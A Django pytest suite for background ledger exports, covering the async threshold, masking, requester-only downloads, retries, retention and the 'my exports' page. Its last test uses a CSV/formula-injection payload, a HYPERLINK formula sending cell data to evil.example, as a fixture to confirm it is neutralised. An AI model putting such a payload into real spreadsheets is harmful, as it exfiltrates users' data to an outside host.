"""Background 台账 exports: the row threshold, the worker's file, masking, requester-only downloads,
idempotent and bounded runs, retention, the 我的导出 page."""

import datetime as dt
import io
import os

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django_q.models import Schedule
from openpyxl import load_workbook

from insights import actions, exports, selectors, tasks
from insights.choices import LedgerExportStatus, LedgerKind
from insights.models import LedgerExport
from insights.rankings import parse_period
from insights.storage import ledger_export_storage
from portal.choices import Role
from portal.masking import mask_name, mask_phone
from portal.models import AuditLog, Notification
from tests.insights.factories import at, common_from, seed_period
from tests.portal.factories import StaffFactory

pytestmark = pytest.mark.django_db

EXPORT = "insights:ledger_issues_export"
MARCH = {"period": "2026-03"}


@pytest.fixture(autouse=True)
def export_settings(settings, tmp_path):
    settings.LEDGER_EXPORT_ROOT = tmp_path / "ledger-exports"
    settings.LEDGER_EXPORT_ASYNC_ROWS = 3
    settings.LEDGER_EXPORT_RETENTION_DAYS = 7
    return settings


@pytest.fixture
def march(member, other_member, clerk, handler, other_handler, supervisor):
    """Problems first dispatched in March 2026 to two departments, in mixed states."""
    return seed_period(
        8, members=[member, other_member], clerk=clerk, handlers=[handler, other_handler], supervisor=supervisor
    )


def _rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def _download(response) -> list[tuple]:
    return _rows(b"".join(response.streaming_content))


def _file_rows(job) -> list[tuple]:
    with ledger_export_storage().open(job.file.name, "rb") as handle:
        return _rows(handle.read())


def _background(client, capture, data, url=EXPORT):
    """POST the export as the 台账 page's button does and let the worker (sync in tests) run it."""
    with capture(execute=True):
        response = client.post(f"{reverse(url)}?{_query(data)}")
    return response


def _query(data) -> str:
    from urllib.parse import urlencode

    return urlencode(data)


# ------------------------------------------------------------------------------------ threshold


def test_small_ledgers_download_at_once_and_large_ones_become_jobs(
    client_for, clerk, march, export_settings, django_capture_on_commit_callbacks
):
    client = client_for(clerk)
    rows = selectors.issue_ledger(user=clerk, period=parse_period("2026-03")).count()
    assert rows > 3
    # given a threshold at the ledger's size, when the clerk exports, then the file downloads at once
    export_settings.LEDGER_EXPORT_ASYNC_ROWS = rows
    for method in ("get", "post"):
        response = getattr(client, method)(f"{reverse(EXPORT)}?{_query(MARCH)}")
        assert response.status_code == 200 and response["Content-Type"] == exports.XLSX
        assert len(_download(response)) == rows + 1
    assert not LedgerExport.objects.exists()
    # given one row more than the threshold, when the clerk follows a link (GET), then a page asks
    # to confirm and nothing is created yet
    export_settings.LEDGER_EXPORT_ASYNC_ROWS = rows - 1
    page = client.get(reverse(EXPORT), MARCH)
    assert page.status_code == 200 and 'data-testid="export-confirm"' in page.content.decode()
    assert not LedgerExport.objects.exists()
    # when the clerk presses the button (POST), then a job is queued, run and the clerk lands on 我的导出
    response = _background(client, django_capture_on_commit_callbacks, MARCH)
    assert response.status_code == 302 and response["Location"] == reverse("insights:my_exports")
    job = LedgerExport.objects.get()
    assert (job.ledger, job.requested_by, job.filters, job.row_count) == (LedgerKind.ISSUES, clerk, MARCH, rows)
    assert job.status == LedgerExportStatus.DONE and job.attempts == 1 and job.started_at and job.finished_at
    assert AuditLog.objects.filter(action="insights.ledgerexport.requested", target_id=str(job.pk)).count() == 1
    assert AuditLog.objects.filter(action="insights.ledgerexport.finished", target_id=str(job.pk)).count() == 1


def test_the_same_export_asked_twice_while_pending_is_one_job(client_for, clerk, march):
    client = client_for(clerk)
    # given a large ledger; when the clerk presses the button twice before a worker picks it up
    client.post(f"{reverse(EXPORT)}?{_query(MARCH)}")
    response = client.post(f"{reverse(EXPORT)}?{_query(MARCH)}", follow=True)
    # then there is one queued job and the page says so
    assert LedgerExport.objects.filter(status=LedgerExportStatus.QUEUED).count() == 1
    assert "同样的导出已在生成中" in response.content.decode()


# ------------------------------------------------------------------------------ the worker's file


@pytest.mark.parametrize(
    "filters",
    [MARCH, {**MARCH, "metric": "accepted"}, {"start": "2026-03-01", "end": "2026-03-31"}],
)
def test_background_file_has_the_rows_of_the_immediate_download(
    client_for, clerk, handler, march, export_settings, django_capture_on_commit_callbacks, filters
):
    client = client_for(clerk)
    filters = {**filters, "department": handler.department.pk} if "metric" in filters else filters
    # given the immediate download of a ledger
    export_settings.LEDGER_EXPORT_ASYNC_ROWS = 10_000
    immediate = _download(client.get(reverse(EXPORT), filters))
    assert len(immediate) > 1
    # when the same ledger is exported in the background
    export_settings.LEDGER_EXPORT_ASYNC_ROWS = 0
    _background(client, django_capture_on_commit_callbacks, filters)
    job = LedgerExport.objects.get()
    # then the worker's xlsx holds exactly the same header and rows, masked
    assert job.status == LedgerExportStatus.DONE
    written = _file_rows(job)
    assert written == immediate and len(written) == job.row_count + 1
    assert written[0][0] == "编号"
    assert all("****" in row[5] and row[4].endswith("*") for row in written[1:])


def test_background_export_is_masked_unless_a_supervisor_unmasks_and_that_is_audited(
    client_for, clerk, supervisor, march, django_capture_on_commit_callbacks
):
    unmasked = {**MARCH, "unmask": "on"}
    # when a clerk asks for full phones, then the job is masked anyway
    _background(client_for(clerk), django_capture_on_commit_callbacks, unmasked)
    clerk_job = LedgerExport.objects.get(requested_by=clerk)
    assert clerk_job.unmasked is False
    assert all("****" in row[5] for row in _file_rows(clerk_job)[1:])
    assert not AuditLog.objects.filter(action="insights.ledger.unmasked_export").exists()
    # when a supervisor does, then the file has the full phones and the export is audited
    _background(client_for(supervisor), django_capture_on_commit_callbacks, unmasked)
    job = LedgerExport.objects.get(requested_by=supervisor)
    assert job.unmasked is True
    assert all("****" not in row[5] for row in _file_rows(job)[1:])
    audit = AuditLog.objects.get(action="insights.ledger.unmasked_export")
    assert audit.actor == supervisor and audit.data["export"] == job.pk and audit.data["period"] == "2026-03"


def test_requester_is_notified_with_a_link_to_my_exports(client_for, clerk, march, django_capture_on_commit_callbacks):
    _background(client_for(clerk), django_capture_on_commit_callbacks, MARCH)
    notice = Notification.objects.get(recipient=clerk, kind="insights.ledger_export.done", channel="inbox")
    assert notice.url == reverse("insights:my_exports") and notice.status == "sent"
    assert "涉企问题台账" in notice.title


def test_applications_ledger_exports_in_the_background_too(
    client_for, clerk, one_application, export_settings, django_capture_on_commit_callbacks
):
    # given one application (fixture)
    application = one_application
    period = {"period": timezone.localtime(application.submitted_at).strftime("%Y-%m")}
    url = "insights:ledger_applications_export"
    immediate = _download(client_for(clerk).get(reverse(url), period))
    # when the threshold is below one row
    export_settings.LEDGER_EXPORT_ASYNC_ROWS = 0
    _background(client_for(clerk), django_capture_on_commit_callbacks, period, url=url)
    # then the worker writes the same rows
    job = LedgerExport.objects.get(ledger=LedgerKind.APPLICATIONS)
    assert _file_rows(job) == immediate
    assert immediate[1][0] == application.reference and immediate[1][9] == "138****5678"


def test_ledger_columns_are_unchanged_by_the_faster_rows(
    member, other_member, clerk, handler, supervisor, fire_department
):
    """issue_rows reads values_list now; the ledger must read back cell for cell as the model-object
    version did (the reference below), empty values, common problems and booleans included."""
    issues = seed_period(6, members=[member, other_member], clerk=clerk, handlers=[handler], supervisor=supervisor)
    common_from(issues[:2], supervisor=supervisor, lead=fire_department)
    qs = selectors.issue_ledger(user=clerk, period=parse_period("2026-03"))

    def reference_rows():
        related = ("enterprise", "channel", "category", "lead_department", "common_link__common_issue")
        for issue in qs.select_related(*related):
            link = getattr(issue, "common_link", None)
            yield (
                issue.reference,
                issue.registered_at,
                issue.enterprise.name,
                issue.enterprise.uscc,
                mask_name(issue.contact_name),
                mask_phone(issue.contact_phone),
                issue.channel.name,
                issue.category.name,
                issue.title,
                issue.get_status_display(),
                issue.lead_department.name if issue.lead_department else "",
                issue.first_dispatched_at,
                issue.reply_due,
                issue.replied_at,
                "是" if issue.accepted_on_time else ("否" if issue.accepted_on_time is False else ""),
                "是" if issue.replied_on_time else ("否" if issue.replied_on_time is False else ""),
                issue.returns_count,
                issue.extensions_count,
                issue.reopen_count,
                issue.rating if issue.rating is not None else "",
                issue.closed_at,
                link.common_issue.reference if link else "",
                "是" if issue.overdue else "否",
                "是" if issue.ever_overdue or issue.replied_on_time is False or issue.overdue else "否",
            )

    def written(rows):
        handle = io.BytesIO()
        exports.write_xlsx(handle, sheet_title="t", header=exports.ISSUE_HEADER, rows=rows)
        return _rows(handle.getvalue())

    expected = written(reference_rows())
    assert written(exports.issue_rows(qs)) == expected
    assert any(row[21] for row in expected[1:]) and any(row[21] is None for row in expected[1:])


# ------------------------------------------------------------------------------------- downloads


def test_only_the_requester_downloads_the_file(
    client, client_for, clerk, supervisor, admin_user, member, march, django_capture_on_commit_callbacks
):
    _background(client_for(clerk), django_capture_on_commit_callbacks, MARCH)
    job = LedgerExport.objects.get()
    url = reverse("insights:export_download", args=[job.pk])
    other_clerk = StaffFactory(username="clerk-2", role=Role.CLERK, department=clerk.department)
    # anonymous → the login page
    assert client.get(url).status_code == 302
    # other staff (even a supervisor or an administrator) and an enterprise user → 404
    for user in (other_clerk, supervisor, admin_user, member):
        assert client_for(user).get(url).status_code == 404, user.username
    # the requester → the xlsx, named like the immediate download, never cached
    response = client_for(clerk).get(url)
    assert response.status_code == 200 and response["Content-Type"] == exports.XLSX
    assert 'filename="issues-2026-03.xlsx"' in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"
    assert _download(response) == _file_rows(job)
    # a file that is gone → 404, not an error page
    ledger_export_storage().delete(job.file.name)
    assert client_for(clerk).get(url).status_code == 404


def test_export_file_lives_in_private_storage_without_url(
    client_for, clerk, march, export_settings, django_capture_on_commit_callbacks
):
    _background(client_for(clerk), django_capture_on_commit_callbacks, MARCH)
    job = LedgerExport.objects.get()
    path = ledger_export_storage().path(job.file.name)
    assert path.startswith(str(export_settings.LEDGER_EXPORT_ROOT)) and os.path.getsize(path) > 0
    with pytest.raises(ValueError, match="no public URL"):
        job.file.url  # noqa: B018


# --------------------------------------------------------------------------- idempotent, bounded


def test_running_the_task_again_changes_nothing(client_for, clerk, march, django_capture_on_commit_callbacks):
    _background(client_for(clerk), django_capture_on_commit_callbacks, MARCH)
    job = LedgerExport.objects.get()
    path = ledger_export_storage().path(job.file.name)
    stamp, notices, audits = os.stat(path).st_mtime_ns, Notification.objects.count(), AuditLog.objects.count()
    # when django-q2 delivers the task a second time
    with django_capture_on_commit_callbacks(execute=True):
        outcome = tasks.run_ledger_export(job.pk)
    # then nothing is written again: same file, untouched, no new notice, no new audit row
    job.refresh_from_db()
    assert outcome == "skipped" and job.status == LedgerExportStatus.DONE and job.attempts == 1
    assert job.file.name == LedgerExport.objects.get().file.name and os.stat(path).st_mtime_ns == stamp
    assert len(os.listdir(os.path.dirname(path))) == 1
    assert (Notification.objects.count(), AuditLog.objects.count()) == (notices, audits)


def test_a_failing_export_ends_failed_with_a_message_and_is_not_retried(
    client_for, clerk, march, export_settings, tmp_path, django_capture_on_commit_callbacks
):
    # given a storage location that cannot be written (a file where the folder should be)
    blocked = tmp_path / "blocked"
    blocked.write_text("not a folder")
    export_settings.LEDGER_EXPORT_ROOT = blocked
    # when the export runs
    _background(client_for(clerk), django_capture_on_commit_callbacks, MARCH)
    # then the job failed once, says why in words, and the requester is told
    job = LedgerExport.objects.get()
    assert job.status == LedgerExportStatus.FAILED and job.attempts == 1 and job.finished_at
    assert "生成文件时出错" in job.error and str(job.pk) in job.error
    assert Notification.objects.filter(recipient=clerk, kind="insights.ledger_export.failed").exists()
    # and the task itself succeeded (django-q2 does not deliver it again); another delivery is a no-op
    assert tasks.run_ledger_export(job.pk) == "skipped"
    job.refresh_from_db()
    assert job.status == LedgerExportStatus.FAILED and job.attempts == 1
    page = client_for(clerk).get(reverse("insights:my_exports")).content.decode()
    assert 'data-testid="export-error"' in page and 'data-testid="export-download"' not in page


def test_a_crashed_worker_is_retried_until_the_attempts_run_out(
    client_for, clerk, march, export_settings, django_capture_on_commit_callbacks
):
    client_for(clerk).post(f"{reverse(EXPORT)}?{_query(MARCH)}")  # queued, no worker yet
    job = LedgerExport.objects.get()
    long_ago = timezone.now() - dt.timedelta(seconds=export_settings.LEDGER_EXPORT_TIMEOUT + 120)
    # given a worker that claimed the job and died (the job stays "running")
    assert actions.ledger_export_start(job_id=job.pk, now=long_ago) is not None
    # while the run could still be alive nobody else takes it
    assert actions.ledger_export_start(job_id=job.pk, now=long_ago + dt.timedelta(seconds=30)) is None
    # when the sweep finds it after the timeout, then another worker finishes it (attempt 2)
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.sweep_ledger_exports()["resumed"] == 1
    job.refresh_from_db()
    assert job.status == LedgerExportStatus.DONE and job.attempts == 2


def test_a_job_that_keeps_crashing_fails_after_three_attempts(client_for, clerk, march, export_settings):
    client_for(clerk).post(f"{reverse(EXPORT)}?{_query(MARCH)}")
    job = LedgerExport.objects.get()
    start = timezone.now() - dt.timedelta(days=1)
    # given three claims that each died
    for attempt in range(actions.LEDGER_EXPORT_MAX_ATTEMPTS):
        assert actions.ledger_export_start(job_id=job.pk, now=start + dt.timedelta(hours=attempt)) is not None
    # when the task is delivered again, then the job fails for good instead of running a fourth time
    assert tasks.run_ledger_export(job.pk) == "skipped"
    job.refresh_from_db()
    assert job.status == LedgerExportStatus.FAILED and job.attempts == actions.LEDGER_EXPORT_MAX_ATTEMPTS
    assert "导出多次中断" in job.error
    assert actions.ledger_exports_to_resume() == []


# ------------------------------------------------------------------------------------- retention


def test_retention_deletes_old_files_and_marks_jobs_expired(
    client_for, clerk, march, export_settings, django_capture_on_commit_callbacks
):
    storage = ledger_export_storage()
    old = timezone.now() - dt.timedelta(days=8)
    # given one export finished eight days ago and one finished now
    client_for(clerk).post(f"{reverse(EXPORT)}?{_query(MARCH)}")
    stale = LedgerExport.objects.get()
    stale = actions.ledger_export_start(job_id=stale.pk, now=old)
    name, count = exports.write_ledger_export(stale)
    actions.ledger_export_finish(job=stale, file_name=name, row_count=count, now=old)
    _background(client_for(clerk), django_capture_on_commit_callbacks, {"period": "2026-Q1"})
    fresh = LedgerExport.objects.get(period_label="2026-Q1")
    # and a file no job refers to (a worker died between writing and recording it), as old
    storage.save("2026/01/orphan.xlsx", io.BytesIO(b"x"))
    os.utime(storage.path("2026/01/orphan.xlsx"), (old.timestamp(), old.timestamp()))
    # when the scheduled sweep runs
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.sweep_ledger_exports()["expired"] == 1
    # then the old file is gone and its job shows as expired; the fresh one is kept
    stale.refresh_from_db()
    fresh.refresh_from_db()
    assert stale.status == LedgerExportStatus.EXPIRED and not stale.file and not storage.exists(name)
    assert not storage.exists("2026/01/orphan.xlsx")
    assert fresh.status == LedgerExportStatus.DONE and storage.exists(fresh.file.name)
    client = client_for(clerk)
    assert client.get(reverse("insights:export_download", args=[stale.pk])).status_code == 404
    page = client.get(reverse("insights:my_exports")).content.decode()
    assert 'data-status="expired"' in page and "已超过保留期限" in page


def test_the_sweep_is_registered_as_a_schedule(db):
    call_command("setup_schedules", stdout=io.StringIO())
    schedule = Schedule.objects.get(name="insights.sweep_ledger_exports")
    assert schedule.func == "insights.tasks.sweep_ledger_exports" and schedule.minutes == 15


# ------------------------------------------------------------------------------------ the pages


@pytest.mark.parametrize(
    ("url_name", "method"),
    [("insights:my_exports", "get"), (EXPORT, "post"), ("insights:ledger_applications_export", "post")],
)
def test_export_pages_permission_matrix(client, client_for, member, clerk, handler, supervisor, url_name, method):
    url = f"{reverse(url_name)}?{_query(MARCH)}"
    assert getattr(client, method)(url).status_code == 302  # anonymous → login
    assert getattr(client_for(member), method)(url).status_code == 403  # enterprise user
    for user in (clerk, handler, supervisor):
        assert getattr(client_for(user), method)(url).status_code in (200, 302), (url_name, user.username)


def test_my_exports_lists_only_own_jobs_newest_first_with_constant_queries(client_for, clerk, supervisor, num_queries):
    def request(user, n, start=0):
        for month in range(start, start + n):
            actions.ledger_export_request(
                actor=user,
                ledger=LedgerKind.ISSUES,
                filters={"period": f"20{10 + month // 12}-{month % 12 + 1:02d}"},
                period_label=f"20{10 + month // 12}-{month % 12 + 1:02d}",
                description=f"20{10 + month // 12}-{month % 12 + 1:02d}",
                row_count=10_000,
                now=at("2026-03-01") + dt.timedelta(minutes=month),
            )

    client = client_for(clerk)
    request(supervisor, 2)

    def count():
        url = reverse("insights:my_exports")
        return num_queries.get(client, url), client.get(url).content.decode()

    request(clerk, 3)
    small, page = count()
    assert page.count('data-testid="export-row"') == 3
    assert page.index("2010-03") < page.index("2010-01")  # newest first
    request(clerk, 27, start=3)
    large, page = count()
    assert small == large == 5
    assert page.count('data-testid="export-row"') == 20  # paginated
    assert LedgerExport.objects.visible_to(supervisor).count() == 2


def test_ledger_page_and_workbench_link_to_my_exports(client_for, clerk):
    client = client_for(clerk)
    assert 'data-testid="my-exports"' in client.get(reverse("insights:ledger"), MARCH).content.decode()
    assert 'data-testid="workbench-my-exports"' in client.get(reverse("portal:workbench")).content.decode()


def test_request_action_refuses_enterprise_users_and_unmasking_by_clerks(member, clerk):
    from portal.exceptions import PermissionDeniedError

    kwargs = {"ledger": LedgerKind.ISSUES, "filters": MARCH, "period_label": "2026-03", "description": "2026-03"}
    with pytest.raises(PermissionDeniedError):
        actions.ledger_export_request(actor=member, **kwargs)
    with pytest.raises(PermissionDeniedError):
        actions.ledger_export_request(actor=clerk, unmask=True, **kwargs)
    assert not LedgerExport.objects.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_is_written_as_text(start):
    # Given a problem title an enterprise typed, starting like a formula
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    buffer = io.BytesIO()
    # When it is written into a ledger
    exports.write_xlsx(buffer, sheet_title="台账", header=["标题", "备注"], rows=[[title, "普通文字"]])
    # Then the cell is text behind an apostrophe, never a formula; ordinary text is untouched
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + title
    assert sheet["B2"].value == "普通文字"
